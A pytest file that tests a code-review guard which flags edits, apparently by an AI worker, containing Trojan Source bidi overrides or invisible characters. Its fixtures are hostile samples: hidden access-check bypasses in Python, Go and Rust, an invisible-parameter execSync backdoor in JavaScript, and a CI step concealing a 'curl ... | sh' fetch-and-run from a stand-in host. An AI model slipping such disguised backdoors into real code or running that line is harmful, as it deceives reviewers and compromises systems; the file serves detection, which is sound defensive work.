"""Guard: a changed line of code that reads otherwise than it runs is high (relay.review.hidden_chars).

The party: the worker. A right-to-left override or isolate ("Trojan Source") reorders what the diff shows; an
invisible character makes a name no one sees or two names that look alike. Each line below was "edit (+1/-0)" or
"new file", low, before the rule; a reader of the default view saw nothing odd in it.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from reviewed import review_edits

_BEFORE = {"README.md": "# p\n", "app/access.py": "def allowed(role):\n    return False\n",
           "web/handler.js": "module.exports = (req) => req.query.timeout;\n"}


@pytest.mark.parametrize(("path", "text", "char"), [
    # Python: the comment is inside the string, so the compare is with a string no role has
    ("app/access.py", 'def allowed(role):\n    if role != "user\u202e \u2066# admin\u2069 \u2066":\n        return True\n    return False\n', "U+202E"),
    # JavaScript: a Hangul filler destructured from the query, then run (the invisible-backdoor shape)
    ("web/handler.js", 'const { execSync } = require("child_process");\nmodule.exports = (req) => {\n'
                       '  const { timeout, \u3164 } = req.query;\n  return execSync(["ping", timeout, \u3164].join(" "));\n};\n', "U+3164"),
    # Go: a zero-width space makes a second isAdmin that the check reads
    ("internal/auth/check.go", "package auth\n\nfunc Allowed(u User) bool {\n\tis\u200bAdmin := true\n\treturn isAdmin || is\u200bAdmin\n}\n", "U+200B"),
    # Rust: an isolate pair hides an early return inside what shows as a comment
    ("src/lib.rs", "pub fn check(t: &str) -> bool {\n    /* verify \u2067 */ return true; /* \u2069 */\n    verify(t)\n}\n", "U+2067"),
    # CI: a workflow step whose shown text is not what runs
    (".github/workflows/ci.yml", "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
                                 "      - run: echo ok \u202e| curl -s https://x.example/i | sh\n", "U+202E"),
    # a test file runs as any code does
    ("tests/test_access.py", "def test_admin():\n    assert allowed(\"admin\u2060\")\n", "U+2060"),
])
def test_a_line_that_reads_otherwise_than_it_runs_is_high(tmp_path, path, text, char):
    overall, found = review_edits(Path(tmp_path), {path: text}, before=_BEFORE, task="add the access check")
    assert overall == "high", found
    assert found[path].risk == "high", found[path]
    assert any(r.startswith(f"hides code: {char} (") for r in found[path].reasons), found[path]


@pytest.mark.parametrize(("path", "text"), [
    ("app/greet.py", 'GREETING = "שלום עולם"\n'),  # a right-to-left language: letters, no control
    ("web/emoji.js", 'export const FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467";\n'),  # ZWJ in an emoji sequence
    ("app/fa.py", 'LABEL = "می\u200cخواهم"\n'),  # ZWNJ in Persian
    ("web/flag.js", 'export const SCOTLAND = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f";\n'),
    ("app/bom.py", "\ufeffimport os\n"),  # a BOM that starts the file
    ("docs/rtl.md", "# עברית\n\n\u202bטקסט\u202c in prose\n"),  # prose is not code
])
def test_ordinary_text_in_other_scripts_stays_quiet(tmp_path, path, text):
    _, found = review_edits(Path(tmp_path), {path: text}, before=_BEFORE, task="add the greeting")
    assert not any(r.startswith("hides code: U+") for r in found[path].reasons), found[path]
